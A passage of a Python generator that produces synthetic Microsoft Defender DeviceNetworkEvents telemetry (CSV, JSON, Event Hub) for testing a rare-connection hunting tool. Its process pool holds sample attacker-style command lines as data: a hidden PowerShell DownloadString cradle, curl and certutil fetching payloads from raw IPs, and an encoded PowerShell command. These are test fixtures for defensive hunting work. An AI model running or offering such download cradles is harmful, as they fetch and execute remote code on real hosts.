#!/usr/bin/env python3
# gen_mde.py: realistic, seeded generator of MDE Advanced Hunting DeviceNetworkEvents data (CSV, JSON
# lines, Streaming API storage records, Event Hub captures) for rareconn's tests and benchmarks.
#
# Usage: gen_mde.py --format csv|jsonl|streaming|eventhub (--rows N | --size 1G) [--seed S]
#        [--end 2024-05-31T12:00:00Z] [--days 40] [--order asc|desc|random] [--newline lf|crlf] [--bom]
#        [--servers 8] [--workstations 24] [--out FILE] [--print-servers FILE] [--dirty P]
#
# The same --seed/--rows/--end/--days/--order/--servers/--workstations give the same events in every
# format (format-specific extras such as the envelope time or Event Hub batching use a separate random
# stream). Pools (destinations, processes, accounts, devices) do not depend on --seed, so files made
# with different seeds describe the same fleet and can be scanned together.
#
# What is in the data (see the hunt in /work/shared/seeds/000_27d4412b354eb157.txt):
#  * a Zipf-like mix of destinations: a few with many thousands of events, a long tail under 50;
#  * servers (srv-<role>-NN.contoso.local, some in upper/mixed case, 2% of their events with the name in
#    another case or as the bare host name) and workstations (one shares a server's short name);
#  * RemoteIPType Public/Private/Loopback/Reserved/FourToSixMapping/Teredo/CarrierGradeNat/Broadcast/
#    empty and the odd lower-case "private"; 10/8, 192.168/16, 172.16/12, 127/8, ::1, 169.254/16,
#    ::ffff:a.b.c.d, IPv6, 100.64/10, empty RemoteIP;
#  * many ActionTypes (ConnectionSuccess the majority, and the odd lower-case "connectionsuccess");
#  * RemoteUrl empty about half the time; Microsoft hosts hit by the allow-list needles and near misses
#    that must not hit; a non-ASCII host; a URL with quotes, a comma and a backslash;
#  * command lines with commas and quotes, and (about 1 row in 2000) an embedded LF;
#  * AdditionalFields JSON text; timestamps with 7 fractional digits and Z, sometimes 0 or 3 digits
#    and/or a space instead of T;
#  * "recent-only" rare IPs whose events all lie in the last 5 days (so findings exist), and window-edge
#    events at exactly end-30d / end-5d (and +-1 tick) on dedicated IPs, one of them with exactly 49
#    baseline events and another with exactly 50 when now = --end;
#  * --dirty P: a fraction P of rows get an empty or unparseable Timestamp.
import argparse
import datetime
import json
import random
import sys

COLUMNS = [
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "RemoteIP", "RemotePort", "RemoteUrl",
    "LocalIP", "LocalPort", "Protocol", "LocalIPType", "RemoteIPType", "InitiatingProcessSHA1",
    "InitiatingProcessSHA256", "InitiatingProcessMD5", "InitiatingProcessFileName",
    "InitiatingProcessFileSize", "InitiatingProcessVersionInfoCompanyName",
    "InitiatingProcessVersionInfoProductName", "InitiatingProcessVersionInfoProductVersion",
    "InitiatingProcessVersionInfoInternalFileName", "InitiatingProcessVersionInfoOriginalFileName",
    "InitiatingProcessVersionInfoFileDescription", "InitiatingProcessId", "InitiatingProcessCommandLine",
    "InitiatingProcessCreationTime", "InitiatingProcessFolderPath", "InitiatingProcessParentFileName",
    "InitiatingProcessParentId", "InitiatingProcessParentCreationTime", "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName", "InitiatingProcessAccountSid", "InitiatingProcessAccountUpn",
    "InitiatingProcessAccountObjectId", "InitiatingProcessIntegrityLevel",
    "InitiatingProcessTokenElevation", "ReportId", "AppGuardContainerId", "AdditionalFields",
    "InitiatingProcessSessionId", "IsInitiatingProcessRemoteSession",
    "InitiatingProcessRemoteSessionDeviceName", "InitiatingProcessRemoteSessionIP",
]
NUMERIC = {"RemotePort", "LocalPort", "InitiatingProcessId", "InitiatingProcessParentId",
           "InitiatingProcessFileSize", "ReportId", "InitiatingProcessSessionId"}

TICKS_PER_SECOND = 10_000_000
DAY = 86400 * TICKS_PER_SECOND
EPOCH_ORDINAL = datetime.date(1, 1, 1).toordinal()  # == 1
POOL_SEED = "rareconn-mde-pools-v1"


# ----------------------------------------------------------------------------- time helpers
def parse_end(text):
    """ISO 8601 'YYYY-MM-DDTHH:MM:SS[.f]Z' -> 100 ns ticks since 0001-01-01."""
    t = text.strip().rstrip("Z").replace(" ", "T")
    date_part, _, time_part = t.partition("T")
    y, m, d = (int(x) for x in date_part.split("-"))
    hh, mm, ss = 0, 0, 0
    frac = 0
    if time_part:
        hms, _, f = time_part.partition(".")
        parts = [int(x) for x in hms.split(":")]
        hh, mm, ss = (parts + [0, 0, 0])[:3]
        if f:
            frac = int((f + "0000000")[:7])
    days = datetime.date(y, m, d).toordinal() - EPOCH_ORDINAL
    return days * DAY + (hh * 3600 + mm * 60 + ss) * TICKS_PER_SECOND + frac


class TimeFormatter:
    """Fast ticks -> text, caching the date part per day."""

    def __init__(self):
        self.dates = {}
        self.hms = ["%02d:%02d:%02d" % (s // 3600, s // 60 % 60, s % 60) for s in range(86400)]

    def date(self, day):
        s = self.dates.get(day)
        if s is None:
            s = datetime.date.fromordinal(day + EPOCH_ORDINAL).isoformat()
            self.dates[day] = s
        return s

    def fmt7(self, ticks):
        day, rem = divmod(ticks, DAY)
        sod, frac = divmod(rem, TICKS_PER_SECOND)
        return "%sT%s.%07dZ" % (self.date(day), self.hms[sod], frac)

    def fmt_variant(self, ticks, variant):
        """variant 0: 7 digits + Z; 1: no fraction; 2: 3 digits; 3: space + 7 digits; 4: space + 3 digits."""
        day, rem = divmod(ticks, DAY)
        sod, frac = divmod(rem, TICKS_PER_SECOND)
        sep = " " if variant >= 3 else "T"
        if variant == 1:
            return "%s%s%sZ" % (self.date(day), sep, self.hms[sod])
        if variant in (2, 4):
            return "%s%s%s.%03dZ" % (self.date(day), sep, self.hms[sod], frac // 10000)
        return "%s%s%s.%07dZ" % (self.date(day), sep, self.hms[sod], frac)


# ----------------------------------------------------------------------------- rendering helpers
def csv_field(s):
    if any(c in s for c in ',"\r\n'):
        return '"' + s.replace('"', '""') + '"'
    return s


def json_str(s):
    return json.dumps(s, ensure_ascii=False)


def json_val(col, s):
    if col in NUMERIC and s != "":
        return s
    return json_str(s)


class Segment:
    """A run of consecutive columns with fixed values, pre-rendered for CSV and for JSON."""
    __slots__ = ("csv", "json")

    def __init__(self, cols, values):
        assert len(cols) == len(values)
        self.csv = ",".join(csv_field(v) for v in values)
        self.json = ",".join(json_str(c) + ":" + json_val(c, v) for c, v in zip(cols, values))


def cols(first, last):
    i, j = COLUMNS.index(first), COLUMNS.index(last)
    return COLUMNS[i:j + 1]


def rand_hex(rng, n):
    return "%0*x" % (n, rng.getrandbits(4 * n))


def rand_guid(rng):
    h = rand_hex(rng, 32)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def zipf_cum(n, s):
    acc, out = 0.0, []
    for r in range(n):
        acc += 1.0 / (r + 1) ** s
        out.append(acc)
    return out


# ----------------------------------------------------------------------------- pools
MS_URLS = [
    "settings-win.data.microsoft.com", "au.download.windowsupdate.com", "login.microsoftonline.com",
    "ocsp.digicert.com", "login.live.com", "autodiscover-s.outlook.com", "ocsp.verisign.com",
    "login.windows.net", "outlook.office365.com", "accounts.accesscontrol.windows.net",
    "www.microsoft.com", "go.microsoft.com", "https://go.microsoft.com/fwlink", "WWW.MICROSOFT.COM",
    "v10.events.data.microsoft.com", "ctldl.windowsupdate.com", "a.login.live.com",
    "login.microsoftonline.com.au", "wdcp.microsoft.com", "x.microsoft.com_x",
    "download.windowsupdate.com", "smartscreen-prod.microsoft.com",
]
NEAR_MISS_URLS = [
    "microsoft.com", "a.microsoft.community", "xlogin.live.com", "x-microsoft.com", "windowsupdate.com",
    "a.microsoft.com1", "microsoftonline.com", "login-live.com", "mylogin.windows.network",
    "ocsp.digicert.co", "outlook.office365.community", "notmicrosoft.com",
]
GENERIC_HOSTS = [
    "api.github.com", "github.com", "objects.githubusercontent.com", "pypi.org", "files.pythonhosted.org",
    "registry.npmjs.org", "repo.maven.apache.org", "dl.google.com", "www.google.com", "update.googleapis.com",
    "clients2.google.com", "cdn.jsdelivr.net", "ajax.cloudflare.com", "s3.amazonaws.com",
    "ec2.us-east-1.amazonaws.com", "storage.googleapis.com", "crl3.digicert.com", "ocsp.sectigo.com",
    "r3.o.lencr.org", "x1.c.lencr.org", "ntp.ubuntu.com", "archive.ubuntu.com", "security.debian.org",
    "downloads.dell.com", "support.hp.com", "license.vendor-app.com", "telemetry.vendor-app.com",
    "updates.acme-soft.io", "api.slack.com", "zoom.us", "us04web.zoom.us", "www.bing.com",
    "edge.skype.com", "time.windows.com", "tile-service.weather.microsoft.com", "checkappexec.microsoft.com",
    "bücher.example", "http://odd.example.net/q?a=\"1\",b=\\x", "CDN.Example-Analytics.NET",
]
TLDS = ["com", "net", "org", "io", "xyz", "top", "ru", "cn", "info", "biz", "co", "app"]
WORDS = ["alpha", "cdn", "static", "edge", "sync", "api", "mail", "relay", "node", "pulse", "orbit",
         "vector", "nimbus", "delta", "sigma", "metro", "north", "blue", "quick", "safe", "zen", "hub"]


def make_destinations(rng):
    """Fixed pool of (RemoteIP, RemotePort, RemoteIPType, [urls]) with a heavy-tailed weight order."""
    dests = []

    def pub4():
        while True:
            a = rng.choice([13, 20, 23, 34, 35, 40, 45, 51, 52, 54, 64, 77, 81, 91, 104, 140, 142, 151,
                            157, 172, 185, 188, 193, 198, 203, 212])
            ip = "%d.%d.%d.%d" % (a, rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
            if not (a == 172 and 16 <= int(ip.split(".")[1]) <= 31):
                return ip

    def rand_host():
        return "%s%d.%s.%s" % (rng.choice(WORDS), rng.randrange(100), rng.choice(WORDS), rng.choice(TLDS))

    def port():
        return rng.choices(["443", "80", "53", "8080", "123", "3389", "445", "22", "8443", "5223"],
                           [60, 15, 5, 3, 3, 2, 2, 3, 4, 1])[0]

    seen = set()

    def add(ip, typ, urls, p=None):
        if ip in seen:
            return
        seen.add(ip)
        dests.append((ip, p if p is not None else port(), typ, urls))

    for _ in range(260):   # Microsoft
        n = rng.choice([1, 1, 2, 3])
        add(pub4(), "Public", rng.sample(MS_URLS, n))
    for _ in range(60):    # near misses only (must stay rare findings)
        add(pub4(), "Public", rng.sample(NEAR_MISS_URLS, rng.choice([1, 2])))
    for _ in range(30):    # near miss mixed with one Microsoft host (dropped by the allow-list)
        add(pub4(), "Public", [rng.choice(NEAR_MISS_URLS), rng.choice(MS_URLS)])
    for _ in range(900):   # well-known generic hosts
        add(pub4(), "Public", rng.sample(GENERIC_HOSTS, rng.choice([1, 1, 1, 2])))
    for _ in range(1500):  # random hosts
        add(pub4(), "Public", [rand_host() for _ in range(rng.choice([1, 1, 2, 3]))])
    for _ in range(400):   # public IPs never seen with a URL
        add(pub4(), rng.choice(["Public", "Public", "Public", ""]), [])
    for _ in range(120):   # IPv6 public
        ip = "%s:%x:%x::%x" % (rng.choice(["2603:1030", "2a00:1450", "2606:4700", "2620:1ec", "2a01:111"]),
                               rng.randrange(65536), rng.randrange(65536), rng.randrange(1, 65536))
        add(ip, "Public", [rand_host()] if rng.random() < 0.5 else [rng.choice(MS_URLS)])
    for _ in range(150):   # private
        k = rng.randrange(3)
        if k == 0:
            ip = "10.%d.%d.%d" % (rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
        elif k == 1:
            ip = "192.168.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
        else:
            ip = "172.%d.%d.%d" % (rng.randrange(16, 32), rng.randrange(256), rng.randrange(1, 255))
        typ = rng.choices(["Private", "private", ""], [90, 6, 4])[0]
        add(ip, typ, ["dc01.contoso.local", "fs01.contoso.local", "wsus.contoso.local", ""][rng.randrange(4):][:1],
            rng.choice(["445", "389", "88", "135", "53", "443", "1433", "8530"]))
    for ip in ["127.0.0.1", "::1", "127.0.0.53", "0:0:0:0:0:0:0:1"]:
        add(ip, "Loopback", ["localhost"] if ip == "127.0.0.1" else [])
    for _ in range(40):    # link-local, various (wrong) types
        ip = "169.254.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
        add(ip, rng.choice(["Private", "Public", "Reserved", ""]), [rand_host()] if rng.random() < 0.3 else [])
    for _ in range(40):    # IPv4-mapped IPv6
        inner = rng.choice([pub4(), "10.0.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)),
                            "169.254.1.%d" % rng.randrange(1, 255)])
        add("::ffff:" + inner, rng.choice(["FourToSixMapping", "FourToSixMapping", "Private"]),
            [rand_host()] if rng.random() < 0.5 else [])
    for _ in range(15):    # Teredo
        add("2001:0:%x:%x::%x" % (rng.randrange(65536), rng.randrange(65536), rng.randrange(65536)),
            "Teredo", [])
    for _ in range(30):    # CGNAT
        add("100.%d.%d.%d" % (rng.randrange(64, 128), rng.randrange(256), rng.randrange(1, 255)),
            rng.choice(["Reserved", "CarrierGradeNat", "Public", ""]), [rand_host()] if rng.random() < 0.4 else [])
    add("255.255.255.255", "Broadcast", [], "67")
    add("224.0.0.251", "Reserved", [], "5353")
    add("fe80::1c2d:3e4f:5a6b:7c8d", "Reserved", [], "5355")
    add("", "", [], "")    # empty RemoteIP (a few successes report none)
    order = list(range(len(dests)))
    rng.shuffle(order)
    # Private / loopback destinations talk a lot: move some of them to the front of the weight order.
    busy = [i for i in order if dests[i][2] in ("Private", "Loopback")][:20]
    order = busy + [i for i in order if i not in set(busy)]
    return [dests[i] for i in order]


PROCESSES = [
    # (file name, folder, company, product, version, description, command lines, parent)
    ("svchost.exe", r"c:\windows\system32", "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "10.0.17763.1", "Host Process for Windows Services",
     ["svchost.exe -k netsvcs -p -s wuauserv", "svchost.exe -k NetworkService -p", "svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp"],
     "services.exe"),
    ("lsass.exe", r"c:\windows\system32", "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "10.0.17763.3469", "Local Security Authority Process", [r"C:\Windows\system32\lsass.exe"], "wininit.exe"),
    ("sqlservr.exe", r"c:\program files\microsoft sql server\mssql15.mssqlserver\mssql\binn", "Microsoft Corporation",
     "Microsoft SQL Server", "2019.150.2000.5", "SQL Server Windows NT - 64 Bit",
     ['"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER'],
     "services.exe"),
    ("w3wp.exe", r"c:\windows\system32\inetsrv", "Microsoft Corporation", "Internet Information Services",
     "10.0.17763.1", "IIS Worker Process",
     [r'c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm1, -h "C:\inetpub\temp\apppools\DefaultAppPool.config"'],
     "svchost.exe"),
    ("powershell.exe", r"c:\windows\system32\windowspowershell\v1.0", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.17763.1", "Windows PowerShell",
     ['powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri \'https://updates.acme-soft.io/a.zip\' -OutFile C:\\Temp\\a.zip"',
      'powershell.exe -nop -w hidden -c "$c=New-Object Net.WebClient; $c.DownloadString(\'http://198.51.100.7/x\'), 1"',
      '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -File "C:\\Scripts\\backup, daily.ps1"'],
     "cmd.exe"),
    ("POWERSHELL.EXE", r"c:\windows\system32\windowspowershell\v1.0", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.17763.1", "Windows PowerShell",
     ["POWERSHELL.EXE -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"], "wmiprvse.exe"),
    ("MsMpEng.exe", r"c:\programdata\microsoft\windows defender\platform\4.18.24040.4-0", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "4.18.24040.4", "Antimalware Service Executable",
     ['"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24040.4-0\\MsMpEng.exe"'], "services.exe"),
    ("MsSense.exe", r"c:\program files\windows defender advanced threat protection", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.8760.17763.5830", "Windows Defender Advanced Threat Protection Service Executable",
     ['"MsSense.exe"'], "services.exe"),
    ("chrome.exe", r"c:\program files\google\chrome\application", "Google LLC", "Google Chrome",
     "124.0.6367.208", "Google Chrome",
     ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=1960,i,1234567,7654321,262144 /prefetch:3'],
     "chrome.exe"),
    ("msedge.exe", r"c:\program files (x86)\microsoft\edge\application", "Microsoft Corporation", "Microsoft Edge",
     "125.0.2535.51", "Microsoft Edge",
     ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US'],
     "explorer.exe"),
    ("java.exe", r"c:\program files\java\jre1.8.0_401\bin", "Oracle Corporation", "Java(TM) Platform SE 8",
     "8.0.4010.10", "Java(TM) Platform SE binary",
     ['"C:\\Program Files\\Java\\jre1.8.0_401\\bin\\java.exe" -Xmx2g -cp "lib\\*;conf" com.acme.Agent --server=https://license.vendor-app.com,https://telemetry.vendor-app.com'],
     "services.exe"),
    ("python.exe", r"c:\python311", "Python Software Foundation", "Python", "3.11.7", "Python",
     [r'C:\Python311\python.exe -m pip install --index-url "https://pypi.org/simple" requests', r'python.exe C:\jobs\sync.py --dest "s3://bucket/a, b"'],
     "cmd.exe"),
    ("curl.exe", r"c:\windows\system32", "curl, https://curl.se/", "The curl executable", "8.4.0", "The curl executable",
     [r'curl.exe -s -o C:\Users\Public\p.bin "http://185.220.101.4/p.bin"', 'curl.exe -H "User-Agent: x, y" https://api.github.com/repos'],
     "cmd.exe"),
    ("certutil.exe", r"c:\windows\system32", "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "10.0.17763.1", "CertUtil.exe", [r"certutil.exe -urlcache -split -f http://45.9.148.2/a.txt C:\Windows\Temp\a.txt"],
     "cmd.exe"),
    ("rundll32.exe", r"c:\windows\system32", "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "10.0.17763.1", "Windows host process (Rundll32)",
     [r"rundll32.exe C:\Windows\system32\shell32.dll,Control_RunDLL", r'rundll32.exe "C:\Users\José\AppData\Local\Temp\x.dll",DllRegisterServer'],
     "explorer.exe"),
    ("OneDrive.exe", r"c:\users\josé\appdata\local\microsoft\onedrive", "Microsoft Corporation", "Microsoft OneDrive",
     "24.086.0428.0003", "Microsoft OneDrive", ['"C:\\Users\\José\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'],
     "explorer.exe"),
    ("Teams.exe", r"c:\users\alice\appdata\local\microsoft\teams\current", "Microsoft Corporation", "Microsoft Teams",
     "1.7.0.3653", "Microsoft Teams", ['"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --system-initiated'],
     "explorer.exe"),
    ("OUTLOOK.EXE", r"c:\program files\microsoft office\root\office16", "Microsoft Corporation", "Microsoft Outlook",
     "16.0.17531.20152", "Microsoft Outlook", ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" '],
     "explorer.exe"),
    ("nginx.exe", r"c:\nginx", "", "", "", "", [r"nginx.exe -c conf\nginx.conf"], "services.exe"),
    ("node.exe", r"c:\program files\nodejs", "Node.js", "Node.js", "20.12.2", "Node.js JavaScript Runtime",
     ['"C:\\Program Files\\nodejs\\node.exe" server.js --port=8080,8081'], "cmd.exe"),
    ("System", "", "", "", "", "", [""], ""),
    ("TiWorker.exe", r"c:\windows\winsxs\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.17763.5815_none_1",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.17763.5815",
     "Windows Modules Installer Worker", [r"C:\Windows\winsxs\amd64_microsoft-windows-servicingstack\TiWorker.exe -Embedding"],
     "svchost.exe"),
    ("backup_agent.exe", r"c:\program files\acme\backup", "ACME Corp., Inc.", "ACME \"Safe\" Backup", "7.2.1.0",
     "ACME Backup Agent, network service", ['"C:\\Program Files\\ACME\\Backup\\backup_agent.exe" --target "\\\\nas01\\backups" --quiet'],
     "services.exe"),
    ("updater.exe", r"c:\users\public\libraries", "", "", "", "", [r'"C:\Users\Public\Libraries\updater.exe" /silent'],
     "explorer.exe"),
]
MULTILINE_CMD = 'powershell.exe -Command "Write-Host \'step 1\', \'ok\'\nInvoke-RestMethod https://api.github.com/zen"'

ACCOUNTS = [
    ("nt authority", "system", "S-1-5-18", "", "", "System", "TokenElevationTypeDefault"),
    ("nt authority", "network service", "S-1-5-20", "", "", "System", "TokenElevationTypeDefault"),
    ("nt authority", "local service", "S-1-5-19", "", "", "System", "TokenElevationTypeDefault"),
    ("contoso", "svc_sql", "S-1-5-21-1004336348-1177238915-682003330-1105", "svc_sql@contoso.com",
     "7d0c2bb3-8f7a-4c38-9d3e-0f3b1e4a2c11", "High", "TokenElevationTypeFull"),
    ("contoso", "alice", "S-1-5-21-1004336348-1177238915-682003330-1601", "alice@contoso.com",
     "a1b2c3d4-0000-4a4a-9b9b-123456789abc", "Medium", "TokenElevationTypeLimited"),
    ("contoso", "bob.admin", "S-1-5-21-1004336348-1177238915-682003330-1602", "bob.admin@contoso.com",
     "b0b0b0b0-1111-4b4b-8c8c-abcdefabcdef", "High", "TokenElevationTypeFull"),
    ("CONTOSO", "José", "S-1-5-21-1004336348-1177238915-682003330-1603", "jose@contoso.com",
     "c3c3c3c3-2222-4c4c-9d9d-fedcbafedcba", "Medium", "TokenElevationTypeLimited"),
    ("iis apppool", "defaultapppool", "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415", "", "",
     "High", "TokenElevationTypeDefault"),
]
ADDITIONAL = [
    "", "", "", "", '{"direction":"Out"}', '{"direction":"In"}', '{"direction":"Out","isLocalhost":false}',
    '{"uri":"/api/v1/items","method":"GET","status_code":200}', '{"direction":"Out","tags":["a","b, c"]}',
]
ACTIONS = ["ConnectionSuccess", "ConnectionFailed", "ConnectionRequest", "InboundConnectionAccepted",
           "ListeningConnectionCreated", "ConnectionAttempt", "ConnectionFound", "ConnectionAcknowledged",
           "NetworkSignatureInspected", "HttpConnectionInspected", "SslConnectionInspected",
           "DnsConnectionInspected", "connectionsuccess", "ConnectionSuccess "]
ACTION_W = [700, 80, 50, 60, 30, 30, 10, 10, 8, 8, 6, 6, 1, 1]
ROLES = ["web", "sql", "dc", "app", "file", "exch", "iis", "sap", "mq", "build"]


def server_names(k):
    out = []
    for i in range(k):
        name = "srv-%s-%02d.contoso.local" % (ROLES[i % len(ROLES)], i // len(ROLES) + 1)
        if i % 5 == 3:
            host, _, dom = name.partition(".")
            name = host.upper() + "." + dom
        elif i % 7 == 5:
            name = ".".join(p.capitalize() for p in name.split("."))
        out.append(name)
    return out


def workstation_names(w, servers):
    out = []
    for i in range(w):
        if i == 0 and servers:
            out.append(servers[0].split(".")[0].lower() + ".dmz.contoso.local")  # shares a server's short name
        elif i % 4 == 1:
            out.append("DESKTOP-%07X" % (0x3A1F00 + i * 7919))
        elif i % 4 == 2:
            out.append("laptop-%02d.corp.contoso.com" % i)
        else:
            out.append("wks-%04d.contoso.local" % (1000 + i))
    return out


class Fleet:
    def __init__(self, n_servers, n_workst, zipf=1.07):
        prng = random.Random(POOL_SEED)
        self.servers = server_names(n_servers)
        self.workstations = workstation_names(n_workst, self.servers)
        self.devices = []  # (name, DeviceId, LocalIP, is_server, MachineGroup)
        for i, n in enumerate(self.servers):
            r = random.Random("dev:" + n)
            self.devices.append((n, rand_hex(r, 40), "10.10.%d.%d" % (i // 250, i % 250 + 2), True, "Servers"))
        for i, n in enumerate(self.workstations):
            r = random.Random("dev:" + n)
            self.devices.append((n, rand_hex(r, 40), "192.168.%d.%d" % (10 + i // 250, i % 250 + 2), False,
                                 "Workstations"))
        ns, nw = len(self.servers), len(self.workstations)
        w = [55.0 / ns * 2 / (1 + i % 4) for i in range(ns)] + [45.0 / max(nw, 1)] * nw
        acc, self.dev_cum = 0.0, []
        for x in w:
            acc += x
            self.dev_cum.append(acc)
        self.dests = make_destinations(prng)
        self.dest_cum = zipf_cum(len(self.dests), zipf)
        self.dest_url_csv, self.dest_url_json = [], []
        self.dest_ip_json = []
        for ip, _, _, urls in self.dests:
            self.dest_url_csv.append([csv_field(u) for u in urls])
            self.dest_url_json.append([json_str(u) for u in urls])
            self.dest_ip_json.append(json_str(ip))
        # process profiles -> segments A (SHA1..Description), cmdline variants, C (folder, parent)
        self.procs = []
        for (fname, folder, company, product, version, desc, cmds, parent) in PROCESSES:
            seg_a = Segment(cols("InitiatingProcessSHA1", "InitiatingProcessVersionInfoFileDescription"),
                            [rand_hex(prng, 40), rand_hex(prng, 64), rand_hex(prng, 32), fname,
                             str(prng.randrange(20000, 60000000)) if fname != "System" else "", company, product,
                             version, fname.lower(), fname, desc])
            cmd_csv = [csv_field(c) for c in cmds]
            cmd_json = [json_str(c) for c in cmds]
            seg_c = Segment(["InitiatingProcessFolderPath", "InitiatingProcessParentFileName"],
                            [(folder + "\\" + fname.lower()) if folder else "", parent])
            self.procs.append((seg_a, cmd_csv, cmd_json, seg_c))
        self.proc_cum = zipf_cum(len(self.procs), 0.8)
        self.multi_csv, self.multi_json = csv_field(MULTILINE_CMD), json_str(MULTILINE_CMD)
        self.accts = [Segment(cols("InitiatingProcessAccountDomain", "InitiatingProcessTokenElevation"), list(a))
                      for a in ACCOUNTS]
        self.acct_cum = zipf_cum(len(self.accts), 1.0)
        self.addl_csv = [csv_field(a) for a in ADDITIONAL]
        self.addl_json = [json_str(a) for a in ADDITIONAL]
        self.dev_json = [(json_str(d[0]), json_str(d[1]), json_str(d[2]), json_str(d[4])) for d in self.devices]
        acc, self.act_cum = 0, []
        for x in ACTION_W:
            acc += x
            self.act_cum.append(acc)


# ----------------------------------------------------------------------------- events
class Generator:
    def __init__(self, args):
        self.a = args
        self.fleet = Fleet(args.servers, args.workstations, args.zipf)
        self.tf = TimeFormatter()
        self.end = parse_end(args.end)
        self.span = max(1, int(round(args.days * DAY)))

    def build_times(self, n, rng):
        """n event times (ticks) plus the special rows {ticks: (kind, ...)}; ordered per --order."""
        start = self.end - self.span
        times = [start + rng.randrange(self.span) for _ in range(n)]
        special = {}
        f = self.fleet
        if n >= 200 and f.servers:
            e = self.end
            srv = 0  # index of the first server: canonical case, matches the --print-servers list
            # edge IP 1: window edges
            edge = [e - 30 * DAY, e - 30 * DAY + 1, e - 30 * DAY - 1, e - 5 * DAY, e - 5 * DAY + 1,
                    e - 5 * DAY - 1, e - 10 * DAY, e - 1 * DAY, e - 1 * DAY + 1, e]
            for t in edge:
                special[t] = ("edge", "198.18.7.1", srv)
            # edge IP 2: exactly 49 baseline events (when now = end), some of them recent
            for j in range(49):
                t = e - 29 * DAY + j * (29 * DAY // 49) + 7
                special[t] = ("edge", "198.18.7.49", srv)
            # edge IP 3: exactly 50 baseline events
            for j in range(50):
                t = e - 29 * DAY + j * (29 * DAY // 50) + 13
                special[t] = ("edge", "198.18.7.50", srv)
            keys = sorted(special)
            # replace the first len(keys) random times (positions are random anyway)
            for i, t in enumerate(keys[:n]):
                times[i] = t
        if self.a.order == "asc":
            times.sort()
        elif self.a.order == "desc":
            times.sort(reverse=True)
        else:
            rng.shuffle(times)
        return times, special

    def events(self, n):
        """Yields batches of rendered rows (strings without line end) for the chosen format."""
        a, f, tf = self.a, self.fleet, self.tf
        rng = random.Random("events:%s" % a.seed)
        xrng = random.Random("extras:%s" % a.seed)  # format-specific randomness (envelope, batching)
        times, special = self.build_times(n, rng)
        recent_cut = self.end - 5 * DAY
        recent_rows = max(1.0, n * min(1.0, 5 * DAY / self.span))
        # recent-only rare IPs for this seed
        rr = random.Random("recent:%s" % a.seed)
        recent_ips = ["%d.%d.%d.%d" % (rr.choice([5, 31, 37, 46, 62, 89, 91, 185, 194]), rr.randrange(256),
                                       rr.randrange(256), rr.randrange(1, 255)) for _ in range(4)]
        recent_urls = ["", "", "cdn-%d.update-check.top" % rr.randrange(1000), "xlogin.live.com",
                       "a.microsoft.community"]
        p_recent = min(0.2, 4 * 12.0 / recent_rows)
        ns = len(f.servers)
        fmt = a.format
        is_csv = fmt == "csv"
        dest_cum, dev_cum, proc_cum, acct_cum, act_cum = f.dest_cum, f.dev_cum, f.proc_cum, f.acct_cum, f.act_cum
        ndest, ndev, nproc, nacct = len(f.dests), len(f.devices), len(f.procs), len(f.accts)
        dests, devices, procs, accts = f.dests, f.devices, f.procs, f.accts
        tenant = rand_guid(random.Random("tenant:%s" % a.seed))
        dirty = a.dirty
        B = 4096
        pos = 0
        while pos < n:
            m = min(B, n - pos)
            di = rng.choices(range(ndest), cum_weights=dest_cum, k=m)
            vi = rng.choices(range(ndev), cum_weights=dev_cum, k=m)
            pi = rng.choices(range(nproc), cum_weights=proc_cum, k=m)
            ai = rng.choices(range(nacct), cum_weights=acct_cum, k=m)
            ti = rng.choices(range(len(ACTIONS)), cum_weights=act_cum, k=m)
            out = []
            for k in range(m):
                t = times[pos + k]
                r = rng.random()
                d = di[k]
                v = vi[k]
                act = ACTIONS[ti[k]]
                ip, rport, iptype, urls = dests[d]
                ip_json = None
                forced_url = None
                sp = special.get(t) if special else None
                if sp is not None:
                    ip, v, act, iptype = sp[1], sp[2], "ConnectionSuccess", "Public"
                    rport = "443"
                    forced_url = "edge-%s.example.org" % ip.rsplit(".", 1)[1]
                elif t > recent_cut and r < p_recent and ns:
                    j = int(r / p_recent * len(recent_ips)) % len(recent_ips)
                    ip, iptype, act = recent_ips[j], "Public", "ConnectionSuccess"
                    v = rng.randrange(ns)
                    forced_url = recent_urls[rng.randrange(len(recent_urls))]
                    rport = "443"
                # timestamp text
                r2 = rng.random()
                if sp is not None or r2 < 0.996:
                    ts = tf.fmt7(t)
                else:
                    ts = tf.fmt_variant(t, 1 + int((r2 - 0.996) / 0.001) % 4)
                if dirty and r2 < dirty and sp is None:
